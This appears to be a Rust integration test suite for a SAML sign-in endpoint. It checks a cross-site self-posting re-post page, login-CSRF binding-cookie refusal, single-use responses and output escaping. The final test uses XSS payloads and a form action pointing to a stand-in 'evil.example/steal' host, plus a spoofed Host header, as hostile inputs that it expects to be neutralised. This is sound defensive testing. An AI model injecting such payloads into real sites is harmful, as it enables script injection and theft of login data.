//! SAML over plain http (issue 14 item 4): the IdP's POST to the shared ACS is cross-site, so a
//! browser withholds the `SameSite=Lax` binding cookie. The ACS answers such a POST with a
//! self-posting page (same fields, a fixed action, a nonce'd script and a Continue button) whose
//! re-post is same-site and carries the cookie. The binding is not weakened: the first POST
//! consumes nothing, the re-post still needs the cookie, and the response stays single use.
//!
//! "Cross-site without the cookie" is a client without the browser's cookie jar sending
//! `Sec-Fetch-Site: cross-site`, what Chromium sends (the Chromium walk is `provider_saml`).

use serde_json::json;

use crate::saml_login::create;
use crate::support::oidc::browser;
use crate::support::saml::{self, PostForm};
use crate::support::{error_of, session_cookie, sessions_by_method, Resp, TestApp};

const ACS: &str = "/api/auth/sso/callback";

/// A client with no cookie jar: what the browser sends on a cross-site POST (no Lax cookies).
fn cookieless() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

/// POSTs `fields` to the shared ACS from `b` with `Sec-Fetch-Site: site`; the answer is checked
/// against the OpenAPI document.
async fn post(app: &TestApp, b: &reqwest::Client, site: &str, fields: &[(&str, &str)]) -> Resp {
    let r = b
        .post(format!("{}{ACS}", app.base))
        .header("sec-fetch-site", site)
        .form(fields)
        .send()
        .await
        .unwrap();
    TestApp::read(r).await.checked("POST", ACS)
}

/// The raw (still escaped) `value` of the hidden input `name` in `html`.
fn hidden_raw<'a>(html: &'a str, name: &str) -> &'a str {
    let marker = format!("<input type=\"hidden\" name=\"{name}\" value=\"");
    html.split(&marker)
        .nth(1)
        .and_then(|s| s.split('"').next())
        .unwrap_or_else(|| panic!("no hidden {name} in {html}"))
}

fn unescape(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&")
}

/// The fields the self-posting page posts, read back from its HTML (as the browser would).
fn page_fields(html: &str) -> Vec<(String, String)> {
    ["SAMLResponse", "RelayState", "portico_reposted"]
        .iter()
        .map(|n| (n.to_string(), unescape(hidden_raw(html, n))))
        .collect()
}

/// Asserts `r` is the self-posting page for `app`: HTML, `no-store`, a CSP whose only script is
/// the page's own (nonce'd), one form posting to the configured ACS, a Continue button, no cookie
/// set or cleared.
fn assert_page(app: &TestApp, r: &Resp) {
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(saml::is_self_post(r), "{}", r.text);
    assert_eq!(r.headers["content-type"], "text/html; charset=utf-8");
    assert_eq!(r.headers["cache-control"], "no-store");
    assert!(r.headers.get("set-cookie").is_none(), "{:?}", r.headers);
    let csp = r.headers["content-security-policy"].to_str().unwrap();
    assert!(csp.starts_with("default-src 'none';"), "{csp}");
    assert!(!csp.contains("unsafe-inline") && !csp.contains("form-action"), "{csp}");
    let nonce = csp
        .split("script-src 'nonce-")
        .nth(1)
        .and_then(|s| s.split('\'').next())
        .unwrap_or_else(|| panic!("no script nonce: {csp}"));
    assert!(nonce.len() >= 16, "{csp}");
    assert_eq!(r.text.matches("<script").count(), 1, "{}", r.text);
    assert!(r.text.contains(&format!("<script nonce=\"{nonce}\">")), "{}", r.text);
    assert_eq!(r.text.matches("<form").count(), 1, "{}", r.text);
    assert!(
        r.text.contains(&format!(
            "<form id=\"repost\" method=\"post\" action=\"{}{ACS}\">",
            app.base
        )),
        "{}",
        r.text
    );
    assert!(
        r.text.contains("<button type=\"submit\">Continue</button>"),
        "{}",
        r.text
    );
    assert!(
        r.text.contains("<title>Finishing sign-in · Portico</title>"),
        "{}",
        r.text
    );
}

async fn transactions(app: &TestApp) -> i64 {
    app.count("login_transactions").await
}

/// A browser login started in `b` up to the IdP's auto-post form.
async fn started(app: &TestApp, b: &reqwest::Client, slug: &str) -> PostForm {
    saml::to_idp_form(app, b, &format!("/api/auth/sso/{slug}/login?email=alice%40example.com")).await
}

#[tokio::test]
async fn cross_site_post_gets_the_page_and_its_re_post_with_the_cookie_signs_in_once() {
    let idp = saml::idp().await;
    let app = TestApp::start().await;
    let o = app.owner("samlr").await;
    create(&app, &o, idp, json!({})).await;
    let b = browser();
    let form = started(&app, &b, "samlr").await;
    let fields = [
        ("SAMLResponse", form.saml_response.as_str()),
        ("RelayState", form.relay_state.as_str()),
    ];
    let page = post(&app, &cookieless(), "cross-site", &fields).await;
    assert_page(&app, &page);
    let repost = page_fields(&page.text);
    assert_eq!(repost[0].1, form.saml_response);
    assert_eq!(repost[1].1, form.relay_state);
    assert_eq!(repost[2].1, "1");
    // Nothing consumed yet: the transaction waits for the re-post, no session exists.
    assert_eq!(transactions(&app).await, 1);
    assert_eq!(sessions_by_method(&app, "saml").await, 0);

    // The re-post from the page is same-origin and carries the binding cookie: signed in.
    let as_sent: Vec<(&str, &str)> = repost.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let done = post(&app, &b, "same-origin", &as_sent).await;
    assert_eq!(done.status, 302, "{}", done.text);
    assert_eq!(done.headers["location"], "http://app.example.test/");
    let cookie = session_cookie(&done).expect("session cookie");
    assert_eq!(app.me_with_cookie(&cookie).await.status, 200);
    assert_eq!(sessions_by_method(&app, "saml").await, 1);
    assert_eq!(transactions(&app).await, 0);

    // The same SAMLResponse again, re-posted or fresh from another site: single use.
    let again = post(&app, &b, "same-origin", &as_sent).await;
    assert_eq!(error_of(&again), "INVALID_STATE");
    let again = saml::post(
        &cookieless(),
        &format!("{}{ACS}", app.base),
        &form.saml_response,
        &form.relay_state,
    )
    .await;
    assert_eq!(error_of(&again), "INVALID_STATE");
    assert_eq!(sessions_by_method(&app, "saml").await, 1);
}

#[tokio::test]
async fn a_re_post_without_the_binding_cookie_is_refused_and_ends_the_transaction() {
    let idp = saml::idp().await;
    let app = TestApp::start().await;
    let o = app.owner("samlx").await;
    create(&app, &o, idp, json!({})).await;
    // Login CSRF: the attacker's own login (its browser holds the cookie) posted from the
    // victim's browser, which goes through the page and re-posts without any binding cookie.
    let attacker = browser();
    let form = started(&app, &attacker, "samlx").await;
    let fields = [
        ("SAMLResponse", form.saml_response.as_str()),
        ("RelayState", form.relay_state.as_str()),
    ];
    let victim = cookieless();
    let page = post(&app, &victim, "cross-site", &fields).await;
    assert_page(&app, &page);
    let repost = page_fields(&page.text);
    let as_sent: Vec<(&str, &str)> = repost.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let r = post(&app, &victim, "same-origin", &as_sent).await;
    assert_eq!(error_of(&r), "LOGIN_BINDING_MISMATCH");
    assert!(session_cookie(&r).is_none(), "{:?}", r.headers);
    assert_eq!(sessions_by_method(&app, "saml").await, 0);
    // Refused means consumed: the attacker cannot finish it in its own browser either.
    assert_eq!(transactions(&app).await, 0);
    let r = post(&app, &attacker, "same-origin", &as_sent).await;
    assert_eq!(error_of(&r), "INVALID_STATE");
    assert_eq!(sessions_by_method(&app, "saml").await, 0);
    let reason: String = sqlx::query_scalar(
        "SELECT reason FROM audit_events WHERE action = 'sign_in.sso' AND outcome = 'failure' ORDER BY id LIMIT 1",
    )
    .fetch_one(&app.db)
    .await
    .unwrap();
    assert_eq!(reason, "LOGIN_BINDING_MISMATCH");
}

#[tokio::test]
async fn a_same_site_post_without_the_cookie_is_refused_at_once() {
    let idp = saml::idp().await;
    let app = TestApp::start().await;
    let o = app.owner("samlq").await;
    create(&app, &o, idp, json!({})).await;
    // From this site (or typed in) the browser would have sent the Lax cookie: its absence is
    // the binding failing, not the browser withholding it, so no page is offered.
    for site in ["same-origin", "same-site", "none"] {
        let form = started(&app, &browser(), "samlq").await;
        let fields = [
            ("SAMLResponse", form.saml_response.as_str()),
            ("RelayState", form.relay_state.as_str()),
        ];
        let r = post(&app, &cookieless(), site, &fields).await;
        assert!(!saml::is_self_post(&r), "{site}: {}", r.text);
        assert_eq!(error_of(&r), "LOGIN_BINDING_MISMATCH", "{site}");
    }
    assert_eq!(transactions(&app).await, 0);
    assert_eq!(sessions_by_method(&app, "saml").await, 0);
}

#[tokio::test]
async fn hostile_fields_are_escaped_and_the_form_posts_only_to_the_acs() {
    let app = TestApp::start().await;
    let relay = "\"><script>alert(1)</script><form action=\"http://evil.example/steal\">";
    let response = "'\" autofocus onfocus=alert(2) x='<img src=x onerror=alert(3)>&amp;";
    let fields = [
        ("SAMLResponse", response),
        ("RelayState", relay),
        ("action", "http://evil.example/"),
    ];
    // A Host header naming another site does not move the form either.
    let r = cookieless()
        .post(format!("{}{ACS}", app.base))
        .header("sec-fetch-site", "cross-site")
        .header("host", "evil.example")
        .form(&fields)
        .send()
        .await
        .unwrap();
    let page = TestApp::read(r).await.checked("POST", ACS);
    assert_page(&app, &page);
    assert!(
        !page.text.contains("<img") && !page.text.contains("<script>alert"),
        "{}",
        page.text
    );
    assert!(!page.text.contains("action=\"http://evil.example"), "{}", page.text);
    assert_eq!(
        hidden_raw(&page.text, "RelayState"),
        "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;form action=&quot;http://evil.example/steal&quot;&gt;"
    );
    let back = page_fields(&page.text);
    assert_eq!(back[0].1, response);
    assert_eq!(back[1].1, relay);
    // Its re-post is refused plainly (no such login), with no session and no 5xx.
    let as_sent: Vec<(&str, &str)> = back.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let r = post(&app, &cookieless(), "same-origin", &as_sent).await;
    assert_eq!(error_of(&r), "INVALID_STATE");
    assert_eq!(app.count("sessions").await, 0);
    // Without RelayState there is no login to bind, so no page: refused directly.
    let r = post(&app, &cookieless(), "cross-site", &[("SAMLResponse", response)]).await;
    assert_eq!(error_of(&r), "INVALID_STATE");
}
